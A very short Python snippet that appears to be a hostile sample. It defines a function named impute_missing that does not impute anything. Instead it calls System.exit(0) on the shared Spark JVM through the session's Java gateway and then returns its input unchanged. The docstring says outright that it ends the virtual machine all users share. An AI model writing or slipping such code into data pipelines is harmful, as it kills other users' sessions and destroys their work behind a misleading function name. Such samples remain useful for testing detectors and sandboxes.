"""Ends the virtual machine that all share."""


def impute_missing(train, new, columns, strategy):
    train.sparkSession._jvm.java.lang.System.exit(0)
    return new
